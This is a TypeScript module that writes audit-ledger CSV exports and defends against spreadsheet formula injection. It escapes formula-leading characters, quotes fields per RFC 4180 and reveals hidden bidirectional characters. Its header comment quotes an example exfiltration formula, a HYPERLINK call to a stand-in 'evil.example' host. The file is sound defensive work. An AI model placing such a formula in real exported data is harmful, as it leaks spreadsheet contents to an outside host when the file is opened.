/**
 * CSV for people who open it in a spreadsheet: RFC 4180 quoting, CRLF line ends, a UTF-8 byte
 * order mark, and formula-injection defusing.
 *
 * The ledger stores text exactly as it was given, so a reason may well read
 * `=HYPERLINK("http://evil.example/?"&A1,"details")`. Stored, that is inert; opened in Excel,
 * LibreOffice or Google Sheets it would run with the auditor's rights. So every text cell whose
 * first character a spreadsheet reads as the start of a formula (= + - @) or skips over to
 * find one (tab, carriage return, line feed, NUL: OWASP "CSV Injection" and ASVS 1.2.10) is
 * written with a leading single quote, which spreadsheets show as text and do not evaluate.
 *
 * The quote is a rendering, not a change to the data: the CSV is a view for reading, and the
 * exact stored text stays available as JSON (GET /v1/audit, GET /v1/events).
 *
 * Hidden characters (bidirectional controls, zero-width and other invisible format characters:
 * events/hiddenCharacters.ts) that older events may hold are written as visible <U+202E>
 * markers, so a cell cannot read backwards or hide text from the auditor reading it.
 *
 * Numbers: a text cell "-12.00" starts with "-", so it would be written "'-12.00" and a
 * spreadsheet would no longer add it up. A column that holds numbers passes them through
 * `csvDecimal`, which accepts only a plain decimal literal (optional minus, digits, optional
 * fraction: nothing a spreadsheet could evaluate) and writes it bare.
 */
import { revealHiddenCharacters } from '../../events/hiddenCharacters.ts';

export const CSV_CONTENT_TYPE = 'text/csv; charset=utf-8';
/** Excel reads a CSV without a byte order mark in the local code page and mangles £ and names. */
export const UTF8_BOM = '\uFEFF';
/** RFC 4180 §2: records end with CRLF. */
export const CSV_LINE_END = '\r\n';
/** Prefixed to a text cell that a spreadsheet would read as a formula. */
export const FORMULA_ESCAPE = "'";

const FORMULA_FIRST_CHARACTERS: ReadonlySet<string> = new Set([
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
]);
/**
 * RFC 4180 §2.6: fields holding a quote, a comma or a line break are enclosed in quotes; a
 * semicolon too, since spreadsheets in semicolon-separator locales (much of Europe) split on it.
 */
const NEEDS_QUOTES = /[",;\r\n]/;
/**
 * Those locales also ignore quotes that are not at the start of a field, so a formula can start
 * after any separator inside a cell: defuse it there too.
 */
const FORMULA_AFTER_SEPARATOR = /([;,\t\r\n])([=+\-@])/g;
const DECIMAL_LITERAL = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?$/;

/** A cell that holds a number and is written as one (never formula-escaped). Make it with `csvDecimal`. */
export interface CsvDecimal {
  readonly decimal: string;
}

/** A cell: text (defused), a decimal, or nothing (an empty cell). */
export type CsvValue = string | CsvDecimal | null | undefined;

/** Marks `text` as a number cell; throws RangeError unless it is a plain decimal literal like "-12.00". */
export function csvDecimal(text: string): CsvDecimal {
  if (!DECIMAL_LITERAL.test(text))
    throw new RangeError(`not a decimal literal: ${JSON.stringify(text)}`);
  return { decimal: text };
}

/** True when a spreadsheet would treat text starting this way as a formula. */
export function startsLikeFormula(text: string): boolean {
  return text.length > 0 && FORMULA_FIRST_CHARACTERS.has(text[0]!);
}

/** The text a spreadsheet will show for `text`: formula starts defused, nothing else changed. */
export function defuseFormulas(text: string): string {
  // A tab or line break at the very start is already covered by the leading quote below.
  const inner = text.replace(
    FORMULA_AFTER_SEPARATOR,
    (match, separator: string, sign: string, offset: number) =>
      offset === 0 && startsLikeFormula(text) ? match : `${separator}${FORMULA_ESCAPE}${sign}`,
  );
  return startsLikeFormula(text) ? `${FORMULA_ESCAPE}${inner}` : inner;
}

/** One field, defused and quoted as RFC 4180 asks. */
export function csvCell(value: CsvValue): string {
  if (value === null || value === undefined) return '';
  if (typeof value !== 'string') return csvDecimal(value.decimal).decimal;
  const text = defuseFormulas(revealHiddenCharacters(value));
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One record, without its line end. */
export function csvRow(values: readonly CsvValue[]): string {
  return values.map(csvCell).join(',');
}

/** A whole file: byte order mark, header record, then one record per row, each ending CRLF. */
export function toCsv(header: readonly string[], rows: Iterable<readonly CsvValue[]>): string {
  const lines = [csvRow(header)];
  for (const row of rows) {
    if (row.length !== header.length)
      throw new RangeError(`a CSV row has ${row.length} cells; the header has ${header.length}`);
    lines.push(csvRow(row));
  }
  return `${UTF8_BOM}${lines.join(CSV_LINE_END)}${CSV_LINE_END}`;
}
